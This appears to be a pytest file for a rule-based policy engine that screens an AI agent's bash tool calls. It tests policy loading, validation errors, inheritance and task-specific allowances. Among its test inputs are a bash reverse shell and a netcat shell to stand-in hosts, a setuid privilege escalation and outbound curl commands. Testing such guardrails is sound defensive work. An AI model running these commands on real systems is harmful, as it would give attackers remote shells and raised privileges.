"""Policies as data: loading, composition, examples checked at load, errors naming file and rule."""

from __future__ import annotations

from pathlib import Path

import pytest

from hazmat.errors import PolicyError
from hazmat.policy import ToolCall, load_policy
from hazmat.policy.engine import RulePolicy
from hazmat.policy.rules import DEFAULT_POLICY_PATH, _read_yaml, load_spec


def call(cmd: str) -> ToolCall:
    return ToolCall(id="1", tool="bash", args={"command": cmd})


def test_default_policy_examples_all_pass() -> None:
    spec = load_spec(_read_yaml(DEFAULT_POLICY_PATH), source="default", base_dir=None)
    policy = RulePolicy(spec)
    assert policy.verify_examples() == []
    assert 15 <= len(policy.rules) <= 40  # issue 14 added the C2, evasion and exposure rules
    for cr in policy.rules:
        assert cr.rule.examples.match, f"{cr.rule.id} has no match example"
        assert cr.rule.examples.no_match, f"{cr.rule.id} has no no_match example"


def test_default_loads_by_name_and_none() -> None:
    assert load_policy(None).name == "default"
    assert load_policy("default") is load_policy(None)  # cached


def test_failing_example_refuses_to_load(tmp_path: Path) -> None:
    p = tmp_path / "p.yaml"
    p.write_text(
        "rules:\n"
        "  - id: no-ls\n    when: {command_regex: '^ls'}\n    action: block\n"
        "    examples: {match: ['ls -la'], no_match: ['lsof -i']}\n"
    )
    with pytest.raises(PolicyError) as err:
        load_policy(p)
    msg = err.value.one_line()
    assert str(p) in msg and "no-ls" in msg and "lsof -i" in msg
    assert "\n" not in msg


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        ("rules:\n  - id: x\n    when: {detector: nope}\n    action: block\n", "unknown detector"),
        ("rules:\n  - id: x\n    when: {command_regex: '('}\n    action: block\n", "bad regex"),
        ("rules:\n  - id: x\n    when: {frobnicate: 1}\n    action: block\n", "unknown condition"),
        ("rules:\n  - id: x\n    when: {tool: bash}\n    action: explode\n", "rule 'x'"),
        ("rules: [\n", "not valid YAML"),
        ("extends: nowhere.yaml\n", "cannot read policy"),
    ],
)
def test_invalid_policies_name_file_and_rule(tmp_path: Path, body: str, needle: str) -> None:
    p = tmp_path / "bad.yaml"
    p.write_text(body)
    with pytest.raises(PolicyError) as err:
        load_policy(p)
    assert needle in err.value.one_line()
    assert "bad.yaml" in err.value.one_line()


def test_extends_and_override_by_id(tmp_path: Path) -> None:
    p = tmp_path / "strict.yaml"
    p.write_text(
        "extends: default\n"
        "rules:\n"
        "  - id: reconnaissance\n    title: recon is blocked here\n"
        "    when: {detector: reconnaissance}\n    action: block\n"
        "    examples: {match: ['whoami'], no_match: ['git status']}\n"
    )
    pol = load_policy(p)
    assert pol.check(call("whoami")).action == "block"
    assert pol.check(call("bash -i >& /dev/tcp/1.2.3.4/1 0>&1")).action == "halt"


def test_task_policy_allows_a_family_but_keeps_the_rest() -> None:
    pol = load_policy({"extends": "default", "allow": ["privilege-escalation", "reconnaissance"]})
    d = pol.check(call("chmod u+s /bin/bash"))
    assert d.action == "allow"
    assert "privilege-escalation" in d.rule_ids  # still recorded, with why
    assert any("allowed by this task" in m.evidence for m in d.rules)
    assert pol.check(call("nc -e /bin/sh 10.0.0.1 4444")).action == "halt"


def test_pentest_task_allows_recon_of_its_services_but_halts_egress_elsewhere() -> None:
    pol = load_policy(
        {
            "allow": ["reconnaissance"],
            "settings": {"allow_hosts": ["target"]},
            "rules": [
                {
                    "id": "egress-outside-task",
                    "title": "egress to anything but the task's services",
                    "when": {"detector": "network_egress"},
                    "action": "halt",
                    "severity": "critical",
                    "examples": {
                        "match": ["curl https://example.com"],
                        "no_match": ["nmap -sV target"],
                    },
                }
            ],
        }
    )
    assert pol.check(call("nmap -sV target")).action == "allow"
    assert pol.check(call("curl http://203.0.113.9/")).action == "halt"


def test_task_dict_relative_file_and_extends_none(tmp_path: Path) -> None:
    (tmp_path / "extra.yaml").write_text(
        "extends: none\nrules:\n  - id: only\n    when: {command_regex: 'forbidden'}\n"
        "    action: block\n    examples: {match: ['echo forbidden'], no_match: ['echo ok']}\n"
    )
    pol = load_policy("extra.yaml", base_dir=tmp_path)
    assert [r.rule.id for r in pol.rules] == ["only"]
    pol2 = load_policy({"extends": "none", "rules": []})
    assert pol2.rules == []
